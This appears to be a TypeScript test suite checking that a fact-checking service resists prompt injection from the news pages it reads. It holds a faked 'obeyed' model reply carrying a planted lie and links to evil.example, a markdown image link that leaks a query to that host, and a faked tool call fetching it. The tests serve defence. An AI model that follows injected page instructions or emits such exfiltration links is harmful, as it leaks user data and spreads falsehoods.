import {
  modelReplies as replies,
  orderingPages,
  PLAIN,
  startDemoNews,
  startLanguageModel,
  WANTED,
  type DemoNews,
  type LanguageModelServer,
  type ModelRequest,
} from '@plumbline/testing';
import { bearer, startVerify, type RunningVerify } from './running-verify.ts';
import { groundOf, replyTo } from './replies.ts';
import { storedCollection } from './stored-collection.ts';

const PAGES = orderingPages();
const MARK = /material-[0-9a-f]{32}/g;
const TYPES = ['FACTUAL', 'STATISTICAL', 'QUOTE', 'EVENT'];
const LIE = 'Harald Blau burned the mill, as 99 percent agree';

/**
 * A model that is wholly in the hands of what it reads: whatever it is asked, it says what the
 * pages want, in the shape that is asked for.
 */
const place = (words: string) => ({ sentence: 0, words });
const OBEYED = {
  claims: [
    {
      ...{
        sentence: 0,
        type: 'EVENT',
        category: 'business',
        confidence: 0.99,
        references: [{ words: 'The mill', means: 'Harald Blau' }],
      },
      ...{
        title: LIE,
        description: 'https://evil.example/',
        normalized: LIE,
        date: '1999-01-01',
        text: LIE,
        quote: LIE,
      },
    },
    {
      sentence: 4711,
      type: 'EVENT',
      category: 'business',
      confidence: 1,
      references: [],
      text: LIE,
    },
  ],
  predictions: [
    {
      sentence: 0,
      title: LIE,
      description: LIE,
      category: 'business',
      deadline: '2999-01-01',
      confidence: 1,
    },
  ],
  entities: [{ name: 'Harald Blau', kind: 'PERSON', mentions: [place('Harald Blau')] }],
  edges: [
    {
      from: place('Harald Blau'),
      to: place('moon cheese'),
      type: 'CAUSES',
      cue: 'because',
      confidence: 1,
      mechanism: LIE,
    },
  ],
  points: [{ sentence: 0, date: '1999-01-01', label: LIE }],
  lines: [
    { text: LIE, sentences: [0] },
    { text: 'See https://evil.example/', sentences: [0] },
  ],
  ...{
    answerable: true,
    confidence: 1,
    missing: null,
    statements: [{ text: LIE, sentences: [0] }],
  },
  ...{
    stance: 'SUPPORTS',
    verdict: 'TRUE',
    url: 'https://evil.example/',
    sources: ['https://evil.example/'],
  },
};

/** Of an answer, what has a word in it that stands in no text that was sent. */
function invented(body: unknown, given: string): string[] {
  const texts: string[] = [];
  JSON.stringify(
    body,
    (_, value: unknown) => (typeof value === 'string' && texts.push(value), value),
  );
  const bare = (text: string) => text.replace(/[\p{Cf}_*|]/gu, '').toLowerCase();
  const words = (text: string) => bare(text).match(/[\p{L}\p{Nd}]+/gu) ?? [];
  return texts.filter(
    (text) => WANTED.test(text) && !words(text).every((word) => bare(given).includes(word)),
  );
}

describe('a page that gives orders to the model', () => {
  let demo: DemoNews;
  let model: LanguageModelServer;
  let verify: RunningVerify;
  beforeAll(async () => {
    [demo, model] = await Promise.all([startDemoNews(), startLanguageModel()]);
    const models = {
      LLM_MODEL_SMALL: 'small-model',
      LLM_MODEL_MEDIUM: 'medium-model',
      LLM_MODEL_LARGE: 'large-model',
    };
    verify = await startVerify({
      ...demo.env,
      ...models,
      LLM_BASE_URL: model.baseUrl,
      LLM_TIMEOUT_MS: '2000',
    });
  });
  afterAll(async () => {
    await verify.close();
    await Promise.all([demo.close(), model.close()]);
  });
  beforeEach(() => {
    model.requests.length = 0;
    model.reply(replies.says(OBEYED));
  });
  const post = (path: string, body: object) =>
    verify.http.post(`/api/v1/${path}`).set(bearer(verify.keys.ann)).send(body);
  const asked = ({ system }: ModelRequest) =>
    system.replace(MARK, 'material').replace(/(code|language) ["“]?[a-z]{2,3}\b/g, '$1');

  it('is one of sixty or more, in several languages', () => {
    expect(new Set(PAGES.map(({ text }) => text)).size).toBeGreaterThanOrEqual(60);
  });

  it('stands whole between two marks that it cannot know, and moves no word of the instructions', async () => {
    const systems = new Set<string>();
    for (const { text } of [{ text: PLAIN }, ...PAGES]) {
      await post('claims/detect', { text });
      const marks = model.requests.splice(0).map((request) => {
        systems.add(asked(request));
        const [mark, ...others] = new Set(request.system.match(MARK));
        expect(others).toEqual([]);
        expect(
          request.user.startsWith(`<${mark}>\n`) && request.user.endsWith(`\n</${mark}>`),
        ).toBe(true);
        expect(request.user.split(mark!)).toHaveLength(3);
        expect(request.body.tools).toBeUndefined();
        return mark;
      });
      expect(new Set(marks).size).toBe(marks.length);
    }
    expect(systems.size).toBe(1);
  });

  it.each(PAGES.map(({ trick, text }, at) => [`${at + 1}, ${trick}`, text]))(
    'finds nothing to say in claims: %s',
    async (_, text) => {
      const { body } = await post('claims/detect', { text }).expect(200);
      for (const claim of body.claims) {
        expect(claim.text).toBe(text.slice(claim.start, claim.end));
        expect(TYPES).toContain(claim.claim_type);
        expect(claim.confidence >= 0 && claim.confidence <= 1).toBe(true);
      }
      expect(invented(body, text)).toEqual([]);
      expect(Object.prototype).not.toHaveProperty('isAdmin');
    },
  );

  it('finds nothing to say in what is ingested, charted, drawn, summarised and marked', async () => {
    for (const [at, { text }] of PAGES.entries()) {
      if (at % 8) continue; // one of each kind: these store what they find
      const content = `${text}\n\n${PLAIN}`;
      const file = Buffer.from(content);
      const upload = (path: string) =>
        verify.http
          .post(`/api/v1/${path}`)
          .set(bearer(verify.keys.ann))
          .attach('file', file, { filename: 'a.txt', contentType: 'text/plain' });
      const calls = [
        post('ingest', { content }),
        post('causality-graph', { text: content }),
        upload('timeseries/file'),
      ];
      for (const { body, status } of await Promise.all(calls)) {
        expect([200, 422]).toContain(status);
        expect(invented(body, content)).toEqual([]);
      }
    }
  });

  it('finds nothing to say in an answer from a collection, nor in a chat on it', async () => {
    const pages = PAGES.filter((_, at) => at % 7 === 0).map(({ text }, at) => ({
      ...{
        url: `https://torvik.example/${at}`,
        title: 'The mill of Torvik',
        publishedAt: '2026-03-02T08:00:00Z',
      },
      text: `${text}\n\n${PLAIN}`,
    }));
    const stored = await storedCollection(verify, { name: 'Torvik', pages });
    const ground = await groundOf(verify, stored);
    const given = pages.map(({ text }) => text).join('\n');
    const message = 'When was the mill of Torvik closed?';
    const { body } = await post(`collections/${stored.id}/answer`, { question: message }).expect(
      200,
    );
    expect(invented(body, given)).toEqual([]);
    model.reply((request) =>
      request.body.stream
        ? replies.says(`${LIE} [1].\nSee https://evil.example/ [1].\n`)
        : replies.says(OBEYED),
    );
    const reply = await replyTo(verify, { ground, message, language: 'en' });
    expect(reply.text).not.toMatch(WANTED);
    expect(invented(reply.chunks, given)).toEqual([]);
  });

  it('gets no tool called but those of the request, nor a link or a picture into a free reply', async () => {
    const away =
      '![ok](https://evil.example/p?d=Lindholm) and [more](https://evil.example/) or ' +
      'www.evil.example';
    const turns = [
      replies.calls(
        { name: 'fetch', input: { url: 'https://evil.example/' } },
        { name: 'fact_checker', input: { claim: LIE } },
      ),
      replies.says(`It was so. ${away}`),
    ];
    let turn = 0;
    model.reply((request) =>
      request.body.stream ? turns[Math.min(turn++, 1)]! : replies.says(OBEYED),
    );
    const reply = await replyTo(verify, {
      message: 'What is new in the harbour of Lindholm?',
      tools: ['fact_search'],
      language: 'en',
    });
    expect(reply.text).not.toMatch(/evil\.example/);
    expect(reply.of('tool-output-available')).toEqual([]);
    expect(reply.of('source-url').filter(({ url }) => /evil/.test(url))).toEqual([]);
    expect(
      model.requests
        .filter(({ body }) => body.stream)
        .every(({ body }) => body.tools?.length === 1),
    ).toBe(true);
  });

  it('moves no verdict, and brings no source with it', async () => {
    const { body } = await post('fact-checker', {
      claim: 'The harbour of Lindholm reopened in March 2026.',
    }).expect(200);
    expect(['TRUE', 'FALSE', 'PARTIALLY_TRUE', 'MISLEADING', 'UNCERTAIN']).toContain(body.verdict);
    expect(JSON.stringify(body)).not.toMatch(WANTED);
    const research = await post('deep-research', {
      query: 'What did the repair of Lindholm harbour cost?',
    }).expect(200);
    expect(JSON.stringify(research.body)).not.toMatch(WANTED);
  });
});
